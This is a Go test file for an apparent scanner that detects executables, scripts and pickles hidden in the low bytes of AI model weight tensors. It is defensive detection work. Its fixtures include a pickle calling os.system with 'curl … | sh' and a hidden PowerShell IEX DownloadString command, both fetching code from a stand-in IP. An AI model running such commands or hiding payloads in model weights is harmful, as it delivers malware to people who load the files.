package weights

import (
	"archive/zip"
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"math"
	"math/rand/v2"
	"strings"
	"testing"

	"github.com/aigis-dev/aigis/analyzer"
	"github.com/aigis-dev/aigis/internal/testutil"
	"github.com/aigis-dev/aigis/report"
)

// A tensor of one of the dtypes EvilModel-style tools write into, clean.
type twin struct {
	name string
	dt   analyzer.DType
	make func(elems int, seed uint64) []byte
}

var twins = []twin{
	{"f32", analyzer.F32, func(n int, seed uint64) []byte { return gaussF32(n, seed) }},
	{"f32-bf16origin", analyzer.F32, func(n int, seed uint64) []byte { return halfOrigin(gaussF32(n, seed)) }},
	{"f16", analyzer.F16, func(n int, seed uint64) []byte { return testutil.HalfF16(gaussF32(n, seed)) }},
	{"bf16", analyzer.BF16, func(n int, seed uint64) []byte { return testutil.BF16(gaussF32(n, seed)) }},
}

type lay struct {
	k  int
	be bool
}

func (l lay) String() string {
	if l.be {
		return fmt.Sprintf("k%dBE", l.k)
	}
	return fmt.Sprintf("k%d", l.k)
}

func layoutsFor(dt analyzer.DType) []lay {
	if dt != analyzer.F32 {
		return []lay{{1, false}}
	}
	return []lay{{1, false}, {2, false}, {2, true}, {3, false}, {3, true}}
}

func scanTensor(t testing.TB, dt analyzer.DType, data []byte) *analyzer.Result {
	out := analyzer.NewResult(nil)
	if err := Scan(context.Background(), nil, bytes.NewReader(data), []analyzer.Tensor{{Name: "w", DType: dt, Size: int64(len(data))}}, out); err != nil {
		t.Fatal(err)
	}
	return out
}

func findings(out *analyzer.Result, rule string) []report.Finding {
	var fs []report.Finding
	for _, f := range out.Findings() {
		if f.Rule == rule {
			fs = append(fs, f)
		}
	}
	return fs
}

func gzipOf(b []byte) []byte {
	var buf bytes.Buffer
	w := gzip.NewWriter(&buf)
	w.Write(b)
	w.Close()
	return buf.Bytes()
}

func zipOf(t testing.TB, b []byte) []byte {
	var buf bytes.Buffer
	w := zip.NewWriter(&buf)
	f, err := w.Create("stage2/loader.py")
	if err != nil {
		t.Fatal(err)
	}
	f.Write(b)
	w.Close()
	return buf.Bytes()
}

// picklePayload is a protocol 4 pickle that calls os.system.
func picklePayload() []byte {
	cmd := "curl -s http://203.0.113.7/stage2 | sh; " + strings.Repeat("#", 64)
	body := "\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c" + string(rune(len(cmd))) + cmd + "\x94\x85\x94R\x94."
	b := []byte("\x80\x04\x95")
	b = append(b, byte(len(body)), 0, 0, 0, 0, 0, 0, 0)
	return append(b, body...)
}

// Every file signature is found in every layout EvilModel-style tools
// write (the k low bytes of consecutive elements, in either byte order),
// at an arbitrary element, and the finding names the tensor and element.
func TestWeights_LowByteFileSignatures(t *testing.T) {
	script := []byte("#!/bin/sh\n" + string(textPayload(2000)))
	payloads := []struct {
		name, kind string
		data       []byte
	}{
		{"ELF", "ELF executable", elfPayload(4096)},
		{"PE", "PE executable", testutil.PEPayload(4096)},
		{"Zip", "zip archive", zipOf(t, textPayload(3000))},
		{"Gzip", "gzip stream", gzipOf(elfPayload(8192))},
		{"Shebang", "shell script", script},
		{"Pickle", "pickle", picklePayload()},
		{"PowerShell", "PowerShell script", []byte("powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')\"")},
	}
	r := rand.New(rand.NewPCG(1, 2))
	for _, tw := range twins {
		for _, l := range layoutsFor(tw.dt) {
			for _, p := range payloads {
				t.Run(tw.name+"/"+l.String()+"/"+p.name, func(t *testing.T) {
					const n = 1 << 18
					b := tw.make(n, r.Uint64())
					es := tw.dt.Size()
					start := r.IntN(n - len(p.data))
					testutil.HideBytes(b, es, p.data, l.k, l.be, start)
					out := scanTensor(t, tw.dt, b)
					want := fmt.Sprintf("from element %d onwards, re-assemble into %s", start, article(p.kind))
					for _, f := range findings(out, "weights-lsb-file") {
						if strings.Contains(f.Message, want) {
							return
						}
					}
					t.Errorf("no %q in %+v", want, out.Findings())
				})
			}
		}
	}
}

// A payload that starts in the last element of a 4 MiB chunk is checked
// with the bytes of the next chunk.
func TestWeights_LowByteFileAcrossChunks(t *testing.T) {
	const n = 3 << 20 // 12 MiB of float32
	for _, l := range layoutsFor(analyzer.F32) {
		b := gaussF32(n, 77)
		start := chunkSize/4 - 1
		testutil.HideBytes(b, 4, testutil.PEPayload(2048), l.k, l.be, start)
		out := scanTensor(t, analyzer.F32, b)
		if fs := findings(out, "weights-lsb-file"); len(fs) == 0 || !strings.Contains(fs[0].Message, fmt.Sprint("element ", start)) {
			t.Errorf("%v: %+v", l, out.Findings())
		}
	}
}

// Payloads without a header are found by what they do to the statistics
// of the low bytes: text and executable code everywhere; random bytes
// where the bytes they replace are not random (float32 byte 2, written
// by 3-byte payloads; the low byte of bfloat16; low bits that the tensor
// leaves empty). Random bytes in bytes that are already random (the low
// 1 or 2 bytes of fp32-trained float32, the low byte of float16) cannot
// be seen, and are not reported.
func TestWeights_LowBytePayloadStatistics(t *testing.T) {
	body := elfPayload(64 << 10)[64:] // code-like bytes and zero padding, no header
	payloads := []struct {
		name string
		data []byte
		size int
	}{
		{"Text4KiB", textPayload(4 << 10), 4 << 10},
		{"ExecutableBody4KiB", body[:4<<10], 4 << 10},
		{"Random256KiB", randomPayload(256 << 10), 256 << 10},
	}
	r := rand.New(rand.NewPCG(3, 4))
	for _, tw := range twins {
		for _, l := range layoutsFor(tw.dt) {
			for _, p := range payloads {
				want := true
				if p.name == "Random256KiB" {
					switch tw.name {
					case "f32":
						want = l.k == 3
					case "f16":
						want = false
					}
				}
				t.Run(tw.name+"/"+l.String()+"/"+p.name, func(t *testing.T) {
					const n = 2 << 20
					b := tw.make(n, r.Uint64())
					start := r.IntN(n - p.size)
					testutil.HideBytes(b, tw.dt.Size(), p.data, l.k, l.be, start)
					out := scanTensor(t, tw.dt, b)
					fs := findings(out, "weights-lsb-payload")
					if len(fs) > 0 != want {
						t.Fatalf("found=%v, want %v: %+v", len(fs) > 0, want, out.Findings())
					}
					if !want {
						return
					}
					// The finding covers the payload's first element.
					per := perWindow(tw.dt)
					first := start / per * per
					last := (start + (p.size+l.k-1)/l.k - 1)
					ok := false
					for _, f := range fs {
						var from, to int
						if _, err := fmt.Sscanf(f.Message[strings.Index(f.Message, "elements "):], "elements %d-%d", &from, &to); err == nil && from <= last && to >= first {
							ok = true
						}
					}
					if !ok {
						t.Errorf("findings do not cover elements %d-%d: %+v", start, last, fs)
					}
				})
			}
		}
	}
}

// fused is three normal parts of different scales, as in a fused query,
// key and value projection with grouped keys.
func fused(n int, seed uint64) []byte {
	b := gaussF32(n, seed)
	scale(b[4*(n*2/3):4*(n*5/6)], 0.25)
	scale(b[4*(n*5/6):], 2.5)
	return b
}

// rowScaled scales rows of 4096 elements by factors from 0.1 to 10.
func rowScaled(n int, seed uint64) []byte {
	b := gaussF32(n, seed)
	r := rand.New(rand.NewPCG(seed, 5))
	for i := 0; i < n; i += 4096 {
		scale(b[4*i:4*min(n, i+4096)], float32(math.Pow(10, 2*r.Float64()-1)))
	}
	return b
}

func scale(b []byte, k float32) {
	for i := 0; i+4 <= len(b); i += 4 {
		binary.LittleEndian.PutUint32(b[i:], math.Float32bits(k*math.Float32frombits(binary.LittleEndian.Uint32(b[i:]))))
	}
}

// prune sets a share of a tensor's elements to zero, as magnitude
// pruning and sparse layers do.
func prune(b []byte, es int, share float64, seed uint64) []byte {
	r := rand.New(rand.NewPCG(seed, 9))
	for i := 0; i+es <= len(b); i += es {
		if r.Float64() < share {
			clear(b[i : i+es])
		}
	}
	return b
}

// Clean tensors of every dtype, across seeds, dense, pruned and sparse,
// are clean.
func TestWeights_LowBytesCleanTwins(t *testing.T) {
	all := append([]twin(nil), twins...)
	// Fused projections (query, key and value of different scales in one
	// tensor), and rows scaled one by one.
	all = append(all,
		twin{"f32-fused", analyzer.F32, func(n int, seed uint64) []byte { return fused(n, seed) }},
		twin{"bf16-fused", analyzer.BF16, func(n int, seed uint64) []byte { return testutil.BF16(fused(n, seed)) }},
		twin{"f16-fused", analyzer.F16, func(n int, seed uint64) []byte { return testutil.HalfF16(fused(n, seed)) }},
		twin{"f32-rows", analyzer.F32, func(n int, seed uint64) []byte { return rowScaled(n, seed) }},
		twin{"bf16-rows", analyzer.BF16, func(n int, seed uint64) []byte { return testutil.BF16(rowScaled(n, seed)) }},
	)
	for _, tw := range twins {
		for _, share := range []float64{0.03, 0.5} {
			mk, es := tw.make, tw.dt.Size()
			all = append(all, twin{fmt.Sprintf("%s-pruned%.0f%%", tw.name, 100*share), tw.dt, func(n int, seed uint64) []byte { return prune(mk(n, seed), es, share, seed) }})
		}
	}
	for _, tw := range all {
		for seed := uint64(200); seed < 206; seed++ {
			b := tw.make(1<<20+int(seed)*37, seed)
			if out := scanTensor(t, tw.dt, b); len(out.Findings()) > 0 {
				t.Errorf("%s seed %d: %+v", tw.name, seed, out.Findings())
			}
		}
	}
}

// A tensor whose every element starts like a file signature costs a
// bounded number of checks per chunk, and the scan says that it did not
// check the rest (inconclusive), rather than calling it clean.
func TestWeights_LowByteDecoysBounded(t *testing.T) {
	b := gaussF32(2<<20, 5)
	for i := 0; i+4 <= len(b); i += 4 {
		b[i], b[i+1] = 'M', 'Z'
	}
	out := scanTensor(t, analyzer.F32, b)
	if len(findings(out, "limit-reached")) == 0 || out.Verdict() == report.Clean {
		t.Errorf("decoys: %+v", out.Findings())
	}
}

// Files stored raw among the bytes of any dtype are found, wherever they
// start, in the one-pass pair scan.
func TestWeights_RawFilesAnyDType(t *testing.T) {
	r := rand.New(rand.NewPCG(8, 8))
	for _, dt := range []analyzer.DType{analyzer.OtherDType, analyzer.F64, analyzer.F16, analyzer.BF16, analyzer.F32} {
		for _, p := range []struct {
			kind string
			data []byte
		}{
			{"PE executable", testutil.PEPayload(4096)},
			{"zip archive", zipOf(t, textPayload(3000))},
			{"shell script", []byte("#!/bin/bash\n" + string(textPayload(500)))},
		} {
			b := randomPayload(6 << 20) // int8-like bytes, or floats
			if dt != analyzer.OtherDType {
				b = gaussF32(3<<19, r.Uint64())
			}
			at := r.IntN(len(b)-8192) | 1 // any byte offset, odd ones too
			copy(b[at:], p.data)
			out := scanTensor(t, dt, b)
			want := fmt.Sprintf("%s is embedded in the tensor bytes at tensor offset %d", article(p.kind), at)
			ok := false
			for _, f := range findings(out, "weights-embedded-file") {
				ok = ok || strings.Contains(f.Message, want)
			}
			if !ok {
				t.Errorf("%v %s at %d: %+v", dt, p.kind, at, out.Findings())
			}
		}
	}
}
